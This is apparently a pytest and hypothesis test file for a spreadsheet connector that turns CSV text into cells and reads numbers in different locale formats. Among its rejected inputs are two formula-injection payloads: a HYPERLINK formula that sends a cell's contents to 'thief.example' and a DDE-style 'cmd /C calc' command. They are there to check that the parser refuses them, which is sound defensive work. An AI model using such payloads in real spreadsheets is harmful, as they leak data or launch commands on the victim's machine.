from __future__ import annotations

import csv
import io
from collections.abc import Callable
from contextlib import suppress
from decimal import Decimal
from functools import partial

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.cells import Marks, cell_at, cell_number, labelled, last_of, table_of
from connectors.figure import number
from connectors.outgoing import ConnectorError

_TABLE = [
    ["Metric", "April", "May", ""],
    ["Revenue", "1200", "1310", ""],
    [],
    ["Churn ", "4.1", "", ""],
    ["Notes", "", "", ""],
]


def _number(cell: str, marks: Marks = Marks.AUTO, *, semicolons: bool = False) -> Decimal:
    return cell_number(cell, marks=marks, semicolons=semicolons)[0]


@pytest.mark.parametrize(
    ("text", "cells", "semicolons"),
    [
        pytest.param("a,b\n1,2\n", [["a", "b"], ["1", "2"]], False, id="commas"),
        pytest.param("a;b\r\n1,5;2\r\n", [["a", "b"], ["1,5", "2"]], True, id="semicolons"),
        pytest.param("a\tb\n1\t2", [["a", "b"], ["1", "2"]], False, id="tabs"),
        pytest.param("41.2", [["41.2"]], False, id="one number"),
        pytest.param('"a; b","c"\n1,2', [["a; b", "c"], ["1", "2"]], False, id="quotes"),
        pytest.param('"two\nlines",2', [["two\nlines", "2"]], False, id="a line in a cell"),
    ],
)
def test_a_file_becomes_cells(text: str, cells: list[list[str]], semicolons: bool) -> None:
    assert table_of(text) == (cells, semicolons)


@pytest.mark.parametrize(
    ("text", "sentence"), [("", "empty"), (" \r\n\n", "empty"), ("\n<!doctype html><p>Sign in", "a web page")]
)
def test_what_is_no_table_is_said(text: str, sentence: str) -> None:
    with pytest.raises(ConnectorError, match=sentence):
        table_of(text)


@pytest.mark.parametrize(("place", "cell"), [("B2", "1200"), ("c2", "1310"), ("A1", "Metric")])
def test_a_cell_has_its_name(place: str, cell: str) -> None:
    assert cell_at(_TABLE, place) == cell


@pytest.mark.parametrize("column", ["April", "april ", "B", "b"])
def test_the_last_value_of_a_column_counts(column: str) -> None:
    assert last_of(_TABLE, column) == "4.1"


@pytest.mark.parametrize(
    ("label", "column", "cell"),
    [("Revenue", "May", "1310"), ("revenue", "", "1200"), ("CHURN", "B", "4.1"), ("Churn", "May", "")],
)
def test_a_row_is_found_by_its_label(label: str, column: str, cell: str) -> None:
    assert labelled(_TABLE, label, column) == cell


@pytest.mark.parametrize(
    "look",
    [
        partial(cell_at, _TABLE, "B99"),
        partial(cell_at, _TABLE, "B3"),
        partial(cell_at, _TABLE, "77"),
        partial(last_of, _TABLE, "June"),
        partial(last_of, _TABLE, "D"),
        partial(last_of, [], "A"),
        partial(labelled, _TABLE, "Profit"),
        partial(labelled, [["A", "1"], ["a", "2"]], "A"),
        partial(last_of, [["May", "May"], ["1", "2"]], "May"),
    ],
)
def test_what_is_not_there_is_said(look: Callable[[], str]) -> None:
    with pytest.raises(ConnectorError, match=r"no cell|no column|no row|is empty|several"):
        look()


@pytest.mark.parametrize(
    ("cell", "marks", "value", "unit"),
    [
        ("1,234.5", Marks.AUTO, "1234.5", ""),
        ("1.234,5", Marks.AUTO, "1234.5", ""),
        ("1 234,5", Marks.AUTO, "1234.5", ""),
        ("1.234", Marks.COMMA, "1234", ""),
        ("1.234", Marks.POINT, "1.234", ""),
        ("1,234", Marks.POINT, "1234", ""),
        ("1,234", Marks.COMMA, "1.234", ""),
        ("1'234.50", Marks.POINT, "1234.50", ""),
        ("41.2 %", Marks.AUTO, "41.2", "%"),
        ("€ 1.200,50", Marks.AUTO, "1200.50", "€"),
        ("$1,200.50", Marks.AUTO, "1200.50", "$"),
        ("-$12", Marks.AUTO, "-12", "$"),
        ("($1,200.50)", Marks.POINT, "-1200.50", "$"),
        ("−3", Marks.COMMA, "-3", ""),
        ("'7", Marks.AUTO, "7", ""),
        ("１２", Marks.AUTO, "12", ""),
        ("0", Marks.AUTO, "0", ""),
    ],
)
def test_a_cell_has_a_number_and_perhaps_a_sign(cell: str, marks: Marks, value: str, unit: str) -> None:
    assert cell_number(cell, marks=marks, semicolons=False) == (Decimal(value), unit)


@pytest.mark.parametrize(
    ("cell", "marks", "sentence"),
    [
        ("", Marks.AUTO, "is empty"),
        ("%", Marks.AUTO, "is empty"),
        ("1,234", Marks.AUTO, "can be read as 1234 or as 1.2340"),
        ('=HYPERLINK("https://thief.example?x="&A1)', Marks.AUTO, "a formula"),
        ("=1+1", Marks.POINT, "a formula"),
        ("@SUM(A1)", Marks.AUTO, "a formula"),
        ("+cmd|' /C calc'!A0", Marks.AUTO, "is not a number"),
        ("#REF!", Marks.AUTO, "is not a number"),
        ("n/a", Marks.COMMA, "is not a number"),
        ("12 or so", Marks.POINT, "is not a number"),
        ("1,234.5", Marks.COMMA, "not written with a decimal comma"),
        ("1.2.3", Marks.POINT, "is not a number"),
        ("9" * 41, Marks.AUTO, "too long"),
        ("1e99", Marks.AUTO, "can't be a value"),
        ("NaN", Marks.AUTO, "is not a number"),
        ("inf", Marks.POINT, "is not a number"),
    ],
)
def test_what_is_no_number_is_said(cell: str, marks: Marks, sentence: str) -> None:
    with pytest.raises(ConnectorError, match=sentence):
        _number(cell, marks)


def test_a_file_with_semicolons_has_decimal_commas() -> None:
    assert _number("0,5", semicolons=True) == Decimal("0.5")
    with pytest.raises(ConnectorError, match="can be read as"):
        _number("1.200", semicolons=True)


@given(st.decimals(min_value=-(10**12), max_value=10**12, places=3), st.sampled_from(["point", "comma"]))
def test_a_number_is_what_was_written(value: Decimal, mark: str) -> None:
    text = f"{value:,.3f}"
    if mark == "comma":
        text = text.translate(str.maketrans(",.", ".,"))
    assert _number(text, Marks(mark)) == value


@given(st.text(max_size=60), st.sampled_from(Marks), st.booleans())
def test_any_cell_is_a_number_or_a_sentence(cell: str, marks: Marks, semicolons: bool) -> None:
    with suppress(ConnectorError):
        assert _number(cell, marks, semicolons=semicolons).is_finite()


@given(st.lists(st.lists(st.text(max_size=8), min_size=2, max_size=4), min_size=1, max_size=4))
def test_what_a_spreadsheet_writes_is_read_back(rows: list[list[str]]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows(rows)
    text = out.getvalue()
    if not text.lstrip().startswith("<"):
        assert table_of(text)[0] == rows


@given(st.text(max_size=200))
def test_any_file_is_a_table_or_a_sentence(text: str) -> None:
    with suppress(ConnectorError):
        last_of(table_of(text)[0], "A")


@given(st.one_of(st.text(max_size=40), st.floats(), st.integers(), st.booleans(), st.none(), st.decimals()))
def test_anything_in_an_answer_is_a_number_or_a_sentence(found: object) -> None:
    with suppress(ConnectorError):
        value = number(found, source="Numbers")
        assert value.is_finite()
        assert value == Decimal(str(found).strip())
